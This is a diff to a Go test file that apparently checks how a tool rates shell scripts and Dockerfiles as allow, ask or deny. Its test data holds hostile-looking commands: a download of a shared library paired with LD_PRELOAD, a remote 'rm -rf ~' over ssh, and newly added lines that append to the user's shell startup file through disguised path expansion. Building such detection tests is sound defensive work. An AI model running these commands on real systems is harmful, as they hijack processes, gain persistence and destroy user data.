@@ -51,6 +51,8 @@ func TestWhatDownloadsTellIsJudged(t *testing.T) {
 		{"Dockerfile", "FROM x\nRUN wget -qO /usr/lib/a.so https://x.example\nENV LD_PRELOAD=/usr/lib/a.so\nRUN ls\n",
 			"deny"},
 
+		{"a.sh", "echo x >>$HOME/.$(basename $SHELL)rc\n", "ask"},
+		{"a.sh", "echo x >>\"$HOME/.${SHELL##*/}rc\"\n", "ask"},
 		{"a.sh", "ssh host \"rm -rf ~\"\n", "deny"},
 		{"a.sh", "ssh host \"rm -rf ~/x\"\n", "allow"},
 		{"a.sh", "serve &\npid=$!\ntrap \"kill $pid\" EXIT\n", "allow"},
